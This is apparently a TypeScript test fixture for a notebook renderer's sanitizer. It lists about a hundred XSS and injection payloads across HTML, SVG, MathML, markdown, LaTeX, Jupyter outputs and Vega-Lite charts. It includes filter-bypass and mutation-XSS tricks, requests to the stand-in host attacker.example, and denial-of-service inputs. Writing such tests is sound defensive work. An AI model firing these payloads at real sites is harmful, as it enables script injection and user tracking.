import { type Output } from '@atlas/schemas';
import { display } from './fixture.js';

/** Something that a hostile notebook could contain. Every payload tries to set `window.ran` or to reach another host. */
export type HostileCase = { name: string; output?: Output; prose?: string };

const html = (name: string, markup: string): HostileCase => ({ name, output: display({ 'text/html': markup }) });
const svg = (name: string, markup: string): HostileCase => ({ name, output: display({ 'image/svg+xml': markup }) });
const prose = (name: string, text: string): HostileCase => ({ name, prose: text });
const chart = (name: string, spec: object): HostileCase => ({
  name,
  output: display({ 'application/vnd.vegalite.v5+json': spec }),
});
const other = (name: string, data: { [type: string]: unknown }): HostileCase => ({ name, output: display(data) });

const run = "window.ran=(window.ran||[]).concat('x')";
const far = 'https://attacker.example/x';
const box = 'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"';
const encoded = Buffer.from(`<script>${run}</script>`).toString('base64');
const svgAddress = `data:image/svg+xml;base64,${Buffer.from(`<svg ${box} onload="${run}"/>`).toString('base64')}`;
const rows = { values: [{ a: 1, b: 2 }] };
const encoding = { x: { field: 'a', type: 'quantitative' }, y: { field: 'b', type: 'quantitative' } };

const scripts: HostileCase[] = [
  html('script element', `<script>${run}</script>`),
  html('script from another host', `<script src="${far}.js"></script>`),
  html('script of the site as a gadget', '<script src="../assets/site.js"></script>'),
  html('module script', `<script type="module">${run}</script>`),
  html('script in capitals with spaces', `<SCRIPT >${run}</SCRIPT >`),
  html('script that a filter would join', `<scr<script>ipt>${run}</scr</script>ipt>`),
  html('script in an unclosed comment', `<!--><script>${run}</script>-->`),
  html('script in a template', `<template><script>${run}</script></template>`),
  html('script in noscript', `<noscript><p title="</noscript><script>${run}</script>"></noscript>`),
  html('script in a textarea', `<textarea></textarea><script>${run}</script>`),
  html('script in a style', `<style></style><script>${run}</script><style>`),
  html('declarative shadow root', `<div><template shadowrootmode="open"><script>${run}</script></template></div>`),
];

const handlers: HostileCase[] = [
  html('image error handler', `<img src="nowhere" onerror="${run}">`),
  html('handler without quotes', `<img src=nowhere onerror=${run.replaceAll(' ', '')}>`),
  html('handler after a slash', `<img/src="nowhere"/onerror="${run}">`),
  html('handler with a line feed', `<img src="nowhere" onerror\n=\n"${run}">`),
  html('details toggle handler', `<details open ontoggle="${run}"><summary>x</summary></details>`),
  html('focus handler', `<input autofocus onfocus="${run}">`),
  html('animation handler', `<p style="animation: x 1s" onanimationstart="${run}">x</p>`),
  html('media handler', `<video src="nowhere" onerror="${run}"></video>`),
  html('audio source handler', `<audio><source src="nowhere" onerror="${run}"></audio>`),
  html('pointer handler', `<p onpointerover="${run}" onmouseover="${run}">move here</p>`),
  html('body handler', `<body onload="${run}"><p>x</p></body>`),
  html('select handler', `<select autofocus onfocus="${run}"><option>x</option></select>`),
  html('marquee handler', `<marquee onstart="${run}">x</marquee>`),
];

const addresses: HostileCase[] = [
  html('javascript link', `<a href="javascript:${run}">click</a>`),
  html('javascript link with entities', `<a href="java&#x09;script&colon;${run}">click</a>`),
  html('javascript link with control characters', `<a href="\u0001java\nscript:${run}">click</a>`),
  html('vbscript link', `<a href="vbscript:${run}">click</a>`),
  html('data link', `<a href="data:text/html;base64,${encoded}">click</a>`),
  html('data page in a frame', `<iframe src="data:text/html;base64,${encoded}"></iframe>`),
  html('frame with its own document', `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`),
  html('object', `<object data="data:text/html;base64,${encoded}"></object>`),
  html('embed', `<embed src="data:text/html;base64,${encoded}">`),
  html('form that sends', `<form action="${far}"><button formaction="javascript:${run}">send</button></form>`),
  html('refresh', `<meta http-equiv="refresh" content="0;url=${far}">`),
  html('base address', `<base href="${far}/">`),
  html('remote picture', `<img src="${far}.png" srcset="${far}2.png 2x">`),
  html('picture as SVG data', `<img src="${svgAddress}">`),
  html('remote style sheet', `<link rel="stylesheet" href="${far}.css">`),
  html('prefetch', `<link rel="prefetch" href="${far}"><link rel="dns-prefetch" href="//attacker.example">`),
  html('background', `<table background="${far}.png"><tr><td>x</td></tr></table>`),
  html('ping', `<a href="#" ping="${far}">x</a>`),
  html('link to the site under a false name', `<a href="//attacker.example/">All claims</a>`),
];

const covering: HostileCase[] = [
  html('style that covers the page', '<style>body{display:none}*{position:fixed;inset:0;background:red}</style>'),
  html('inline style that covers', '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>'),
  html('class of the site', '<div class="site-header skip" id="main">x</div>'),
  html('import of a style sheet', `<style>@import url("${far}.css");</style>`),
  html('style that sends', `<p style="background:url(${far}.png)">x</p>`),
  html(
    'clobbered names',
    '<img name="getElementById"><form id="documentElement" name="body"></form><a id="atlasCharts"></a>',
  ),
  html('unclosed tags', '<table><tr><td><div><b><i><a href="https://example.org">unclosed'),
  html('stray closing tags', '</div></section></main></body></html><p>after the end</p>'),
  html('an attribute that does not end', '<p title="never ends'),
  html('deep nesting', '<div>'.repeat(3000)),
  html('a title and a head', '<head><title>Hacked</title></head>'),
  html('a huge picture', '<img src="data:image/png;base64,iVBORw0KGgo=" width="99999" height="99999">'),
  html('custom element and slot', `<x-y onclick="${run}"><slot name="z"></slot></x-y>`),
  html('a table of ten megabytes', `<table>${'<tr><td>0.123456789</td><td>text</td></tr>'.repeat(250_000)}</table>`),
];

const drawings: HostileCase[] = [
  svg('SVG with script', `<svg ${box}><script>${run}</script></svg>`),
  svg('SVG load handler', `<svg ${box} onload="${run}"><rect width="5" height="5"/></svg>`),
  svg(
    'SVG animation of a link',
    `<svg ${box}><a><animate attributeName="href" values="javascript:${run}"/><text y="5">x</text></a></svg>`,
  ),
  svg('SVG set handler', `<svg ${box}><set attributeName="onmouseover" to="${run}"/></svg>`),
  svg(
    'SVG foreign object',
    `<svg ${box}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></body></foreignObject></svg>`,
  ),
  svg(
    'SVG use of a remote file',
    `<svg ${box} xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="${far}.svg#a"/></svg>`,
  ),
  svg('SVG remote image', `<svg ${box}><image href="${far}.png" width="5" height="5"/></svg>`),
  svg('SVG style element', `<svg ${box}><style>body{display:none}</style></svg>`),
  svg('SVG remote fill', `<svg ${box}><rect width="5" height="5" fill="url(${far}.svg#a)"/></svg>`),
  svg('SVG with an entity', `<!DOCTYPE svg [<!ENTITY x "<script>${run}</script>">]><svg ${box}>&x;</svg>`),
  svg('SVG that breaks out', `<svg ${box}><title></title></svg><img src="nowhere" onerror="${run}">`),
  svg('SVG with the names of the page', `<svg ${box} id="main"><rect id="contents" width="5" height="5"/></svg>`),
  svg(
    'SVG of endless size',
    `<svg ${box} width="1e9" height="1e9" style="position:fixed"><rect width="5" height="5"/></svg>`,
  ),
  html(
    'MathML that changes its namespace',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  ),
  html('MathML link', `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`),
  html('SVG in HTML', `<svg><p><style><a id="</style><img src=1 onerror='${run}'>"></svg>`),
];

const texts: HostileCase[] = [
  prose('HTML in prose', `Text <img src=x onerror="${run}"> and <script>${run}</script>.`),
  prose('HTML block in prose', `<div style="position:fixed;inset:0">\n<script>${run}</script>\n</div>`),
  prose('javascript link in prose', `[click](javascript:${run}) and [again](JaVaScRiPt:${run})`),
  prose('data link in prose', `[click](data:text/html;base64,${encoded})`),
  prose('remote picture in prose', `![picture](${far}.png)`),
  prose('SVG picture in prose', `![picture](${svgAddress})`),
  prose('quotes in a link title', `[x](https://example.org "\\" onmouseover=\\"${run}")`),
  prose('formula with a link', `$\\href{javascript:${run}}{x} \\url{${far}}$`),
  prose('formula with HTML', `$\\text{<img src=x onerror=${run}>}$`),
  prose('formula with a style', '$\\color{red;position:fixed;inset:0}x \\style{position:fixed}{y}$'),
  prose('endless formula', '$\\def\\a{\\a\\a}\\a$'),
  prose('fence with a hostile language', `\`\`\`"><script>${run}</script>\nx\n\`\`\``),
  prose('heading with the name of the page', '## main\n\n## contents'),
  other('markdown output', { 'text/markdown': `<script>${run}</script> [x](javascript:${run})` }),
  other('formula output', { 'text/latex': `$$\\href{javascript:${run}}{x}$$` }),
  other('JavaScript output', { 'application/javascript': run, 'text/plain': 'plain' }),
  other('JSON output', { 'application/json': { '</pre><script>': `<script>${run}</script>` } }),
  other('picture that is none', { 'image/png': `"><script>${run}</script>`, 'text/plain': `<script>${run}</script>` }),
  other('picture of an unknown type', { 'image/svg+xml;x': `<svg onload="${run}"/>` }),
  other('widget', { 'application/vnd.jupyter.widget-view+json': { model_id: `<script>${run}</script>` } }),
  {
    name: 'terminal codes',
    output: {
      output_type: 'stream',
      name: 'stdout',
      text: `\u001b]8;;javascript:${run}\u0007x\u001b[31m<script>${run}</script>`,
    },
  },
  {
    name: 'error with markup',
    output: {
      output_type: 'error',
      ename: '<b>',
      evalue: `<script>${run}</script>`,
      traceback: [`<img src=x onerror=${run}>`],
    },
  },
];

const charts: HostileCase[] = [
  chart('chart with remote data', { data: { url: `${far}.json` }, mark: 'point', encoding }),
  chart('chart with a remote picture', { data: rows, mark: { type: 'image', url: `${far}.png` }, encoding }),
  chart('chart with links', {
    data: rows,
    mark: 'point',
    encoding: { ...encoding, href: { value: `javascript:${run}` } },
  }),
  chart('chart with pictures from its data', {
    data: { values: [{ a: 1, b: 2, u: `${far}.png` }] },
    mark: 'image',
    encoding: { ...encoding, url: { field: 'u' } },
  }),
  chart('chart with code in an expression', {
    data: rows,
    transform: [{ calculate: `(()=>{${run}})()`, as: 'c' }],
    mark: 'point',
    encoding,
  }),
  chart('chart that reaches the constructor', {
    data: rows,
    transform: [{ calculate: `toString.constructor("${run}")()`, as: 'c' }],
    mark: 'point',
    encoding,
  }),
  chart('chart with markup in its title', {
    title: `<img src=x onerror="${run}">`,
    data: { values: [{ a: `<script>${run}</script>`, b: 1 }] },
    mark: 'bar',
    encoding: {
      x: { field: 'a', type: 'nominal', title: `</text><script>${run}</script>` },
      y: { field: 'b', type: 'quantitative' },
    },
  }),
  chart('chart with an endless sequence', { data: { sequence: { start: 0, stop: 1e12 } }, mark: 'point', encoding }),
  chart('chart with controls elsewhere', {
    params: [{ name: 'p', value: 1, bind: { input: 'range', element: '.site-header' } }],
    data: rows,
    mark: 'point',
    encoding,
  }),
  chart('chart that is no chart', { mark: '<script>', data: 5 }),
  chart('chart with hostile colours', { data: rows, mark: { type: 'point', color: `red" onload="${run}` }, encoding }),
];

export const hostileCases: readonly HostileCase[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...covering,
  ...drawings,
  ...texts,
  ...charts,
];
